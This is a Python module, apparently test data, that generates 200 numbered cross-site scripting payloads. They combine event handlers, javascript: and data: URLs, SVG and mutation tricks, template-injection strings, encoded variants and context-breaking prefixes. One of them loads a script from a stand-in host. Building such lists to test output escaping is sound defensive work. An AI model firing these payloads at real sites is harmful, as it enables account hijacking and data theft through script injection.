"""Two hundred texts that would run as a script where they are not escaped. Each carries its own number."""

from itertools import product

_TAGS = (
    "<script>alert({n})</script>",
    "<ScRiPt>alert({n})</sCrIpT>",
    "<script src=//xss{n}.example></script>",
    "<img src=x onerror=alert({n})>",
    "<img/src=x/onerror=alert({n})>",
    "<IMG SRC=javascript:alert({n})>",
    "<svg onload=alert({n})>",
    "<svg/onload=alert({n})//",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x>",
    "<body onload=alert({n})>",
    "<iframe src=javascript:alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'>",
    "<object data=javascript:alert({n})>",
    "<embed src=javascript:alert({n})>",
    "<a href=javascript:alert({n})>x</a>",
    "<a href='data:text/html,<script>alert({n})</script>'>x</a>",
    "<form action=javascript:alert({n})><input type=submit>",
    "<button formaction=javascript:alert({n})>x",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})>",
    "<audio src=x onerror=alert({n})>",
    "<marquee onstart=alert({n})>",
    "<math><mtext><img src=x onerror=alert({n})>",
    "<style>@import 'javascript:alert({n})';</style>",
    "<div style=background:url(javascript:alert({n}))>",
    "<base href=javascript:alert({n})//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<link rel=stylesheet href=javascript:alert({n})>",
    "<template><script>alert({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<!--><img src=x onerror=alert({n})>-->",
    "<x onclick=alert({n})>x",
)
_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "-->")
_PLAIN = (
    '" onmouseover="alert({n})',
    "' onmouseover='alert({n})",
    '" autofocus onfocus=alert({n}) x="',
    "javascript:alert({n})",
    " javascript:alert({n})",
    "java\tscript:alert({n})",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCh7bn0pPC9zY3JpcHQ+",
    "{{{{ 7*{n} }}}}",
    "{{% print {n} %}}",
    "${{alert({n})}}",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;script&#62;alert({n})&#60;/script&#62;",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "';alert({n});//",
    '";alert({n});//',
    "*/alert({n})/*",
    "</script><script>alert({n})</script>",
    "]]><script>alert({n})</script>",
    "`alert({n})`",
)


def payloads() -> tuple[str, ...]:
    """All of them. The number of payload 7 is 9000007, which stands in it wherever it would run."""
    shapes = [*_PLAIN, *(f"{before}{tag}" for before, tag in product(_BREAKS, _TAGS))][:200]
    return tuple(shape.format(n=9_000_000 + number) for number, shape in enumerate(shapes))


PAYLOADS = payloads()
TOGETHER = " ".join(PAYLOADS)
